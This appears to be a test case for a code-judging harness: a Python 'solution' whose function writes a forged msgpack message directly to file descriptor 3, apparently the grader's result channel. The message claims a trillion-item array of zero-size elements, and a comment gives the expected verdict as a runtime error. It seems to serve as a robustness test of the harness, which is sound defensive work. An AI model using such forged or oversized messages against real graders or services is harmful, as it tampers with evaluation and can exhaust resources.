# verdict: runtime error
# It claims a trillion items of no size.
import msgpack, os, struct
body = msgpack.packb(["<U0", [1 << 39], 0])
header = msgpack.packb(["ok", msgpack.ExtType(1, body), ""])
def double(values):
    os.write(3, struct.pack("<IIQ", len(header), 1, 0) + header)
    return values
